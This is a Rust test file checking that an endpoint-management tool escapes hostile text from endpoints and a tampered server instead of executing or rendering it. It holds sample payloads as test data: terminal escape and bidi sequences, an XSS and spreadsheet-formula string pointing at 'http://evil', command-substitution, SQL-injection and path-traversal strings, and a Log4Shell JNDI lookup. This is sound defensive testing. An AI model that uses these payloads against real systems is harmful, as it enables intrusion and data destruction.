//! Hostile text from endpoints and from the server is shown, never obeyed.

use crate::stage::{Answer, Stage};

/// Clears the screen, sets a title, moves backwards, reverses the line, ends it; by ESC, by C1 and by Unicode.
const HOSTILE: &str = "\u{1b}[2J\u{1b}]0;owned\u{7}\r\u{8}\u{9b}31m\u{202e}\u{2066}\u{200b}x";

#[track_caller]
fn harmless(answer: &Answer) {
    for c in answer.out.chars().chain(answer.err.chars()) {
        let obeyed = c.is_control() && c != '\n' && c != '\t';
        let hidden = matches!(c, '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}');
        assert!(!obeyed && !hidden, "{c:?} reached the terminal: {answer:?}");
    }
}

#[test]
fn what_an_endpoint_writes_is_shown_harmlessly_and_kept_in_json() {
    let stage = Stage::with_endpoint();
    let octal: Vec<String> = HOSTILE.bytes().map(|byte| format!("\\{byte:03o}")).collect();
    let octal = octal.concat();
    let job = stage.submit("routine", &format!("printf '{octal}\\n'\nprintf '{octal}\\n' >&2\n"));
    let shown = stage.tool("alice", &["watch", &job, "--timeout", "20s"]).ends_with(0);
    harmless(&shown);
    shown.says(&["\\u{1b}[2J", "\\u{202e}"]);
    let json = stage.json("alice", &["watch", &job, "--timeout", "20s"]).ends_with(0);
    harmless(&json);
    let said: String = json
        .out
        .lines()
        .map(|line| serde_json::from_str::<serde_json::Value>(line).unwrap())
        .filter(|line| line["stream"] == 1)
        .map(|line| line["text"].as_str().unwrap().to_owned())
        .collect();
    assert_eq!(said, format!("{HOSTILE}\n"), "JSON loses nothing");
    // A script is shown for signing with the same care.
    let shown = stage.tool("bob", &["job", &job]).ends_with(0);
    harmless(&shown);
}

#[test]
fn hostile_scripts_and_arguments_are_shown_harmlessly_before_they_are_signed() {
    let stage = Stage::with_endpoint();
    stage.write("script.sh", &format!("echo fine #{HOSTILE}\n"));
    let run =
        ["run", "--on", "all", "--class", "change", "--no-wait", "--arg", HOSTILE, "script.sh"];
    let shown = stage.tool("alice", &run).ends_with(0);
    harmless(&shown);
    let job = stage.json("bob", &["pending"]).json();
    let job = job["jobs"][0]["id"].as_str().unwrap();
    let shown = stage.tool("bob", &["approve", job, "--no-wait"]).ends_with(0);
    harmless(&shown);
    shown.says(&["│ echo fine #\\u{1b}[2J", "arg     \\u{1b}[2J"]);
}

#[test]
fn what_a_hostile_server_claims_of_an_endpoint_is_shown_harmlessly() {
    let stage = Stage::with_endpoint();
    let list = stage.json("alice", &["endpoints"]).json();
    let id = list["endpoints"][0]["id"].as_str().unwrap();
    let hex = data_encoding::HEXLOWER.encode(HOSTILE.as_bytes());
    stage.edit_database(&format!(
        "UPDATE endpoint SET hostname = CAST(x'{hex}' AS TEXT), os = CAST(x'{hex}' AS TEXT)"
    ));
    let commands: [&[&str]; 3] =
        [&["endpoints"], &["endpoint", "show", id], &["endpoints", "--search", HOSTILE]];
    for command in commands {
        harmless(&stage.tool("alice", command));
        harmless(&stage.json("alice", command));
    }
    let shown = stage.json("alice", &["endpoints"]).json();
    assert_eq!(shown["endpoints"][0]["hostname"], HOSTILE, "the hostile name did arrive");
    let refused = stage.tool("alice", &["run", "--on", "other", "absent\u{1b}[2J.sh"]).ends_with(1);
    harmless(&refused);
}

/// What an endpoint that somebody owns would call itself: a script for browsers, commands for terminals, a formula for
/// spreadsheets.
const OWNED: &str = "=HYPERLINK(\"http://evil\")<script>alert(1)</script><img src=x onerror=a>\u{1b}]8;;x\u{7}\u{202e}cod.exe\u{2067}";

#[test]
fn an_evil_endpoint_misleads_no_terminal_and_no_export() {
    let stage = Stage::with_endpoint();
    let job = stage.submit("routine", "echo one\n");
    stage.tool("alice", &["watch", &job, "--timeout", "20s"]).ends_with(0);
    let list = stage.json("alice", &["endpoints"]).json();
    let id = list["endpoints"][0]["id"].as_str().unwrap().to_owned();
    let inventory =
        |stage: &Stage| stage.json("alice", &["endpoint", "show", &id]).json()["inventory"].clone();
    stage.wait("an inventory", |stage| !inventory(stage).is_null());
    // Every text of the inventory, and every field of its row.
    let mut inventory = inventory(&stage);
    let poisoned = poison(&mut inventory);
    assert!(poisoned > 5, "{poisoned} texts in {inventory}");
    let hex = |text: &str| data_encoding::HEXLOWER.encode(text.as_bytes());
    let (inventory, owned) = (hex(&inventory.to_string()), hex(OWNED));
    stage.edit_database(&format!(
        "UPDATE inventory SET json = x'{inventory}'; \
         UPDATE endpoint SET hostname = CAST(x'{owned}' AS TEXT), os = CAST(x'{owned}' AS TEXT); \
         UPDATE job_target SET code = CAST(x'{owned}' AS TEXT)"
    ));
    let commands: [&[&str]; 6] = [
        &["endpoints"],
        &["endpoint", "show", &id],
        &["job", &job],
        &["watch", &job, "--timeout", "1s"],
        &["receipts", &job],
        &["log", "mine"],
    ];
    for command in commands {
        harmless(&stage.tool("alice", command));
        harmless(&stage.json("alice", command));
    }
    let shown = stage.json("alice", &["endpoints"]).json();
    assert_eq!(shown["endpoints"][0]["hostname"], OWNED, "it did arrive");
    // What is exported are statements and commands of ours; nothing that an endpoint wrote is in a command.
    stage.json("alice", &["log", "export", "--dir", "exported"]).ends_with(0);
    let script = String::from_utf8(stage.read("exported/verify.sh")).unwrap();
    assert!(!script.contains("evil") && !script.contains("<script"), "{script}");
    // I9: work goes on.
    let job = stage.submit("routine", "echo fine\n");
    stage.tool("alice", &["watch", &job, "--timeout", "20s"]).ends_with(0).says(&["fine"]);
}

/// Replaces every text; how many there were.
fn poison(value: &mut serde_json::Value) -> usize {
    match value {
        serde_json::Value::String(text) => {
            OWNED.clone_into(text);
            1
        }
        serde_json::Value::Array(all) => all.iter_mut().map(poison).sum(),
        serde_json::Value::Object(all) => all.values_mut().map(poison).sum(),
        _ => 0,
    }
}

/// What template engines, shells, databases and web servers of others have evaluated when they should have kept it.
#[test]
fn content_is_bytes_to_the_server() {
    let stage = Stage::with_endpoint();
    let mark = stage.text("evaluated");
    let texts = format!(
        "{{{{7*7}}}} ${{7*7}} <%= 7*7 %> <?php touch('{mark}') ?> $(touch {mark}) `touch {mark}` \
         ; DROP TABLE job; -- %0a%00 ../../../etc/passwd ${{jndi:ldap://evil/x}}"
    );
    let script = format!("cat <<'END'\n{texts}\nEND\n");
    let job = stage.submit("routine", &script);
    let json = stage.json("alice", &["watch", &job, "--timeout", "20s"]).ends_with(0);
    let said: String = json
        .out
        .lines()
        .map(|line| serde_json::from_str::<serde_json::Value>(line).unwrap())
        .filter_map(|line| Some(line["text"].as_str()?.to_owned()))
        .collect();
    assert_eq!(said, format!("{texts}\n"));
    assert!(!stage.path("evaluated").exists());
    let again = stage.submit("routine", "echo fine\n");
    stage.tool("alice", &["watch", &again, "--timeout", "20s"]).ends_with(0).says(&["fine"]);
}
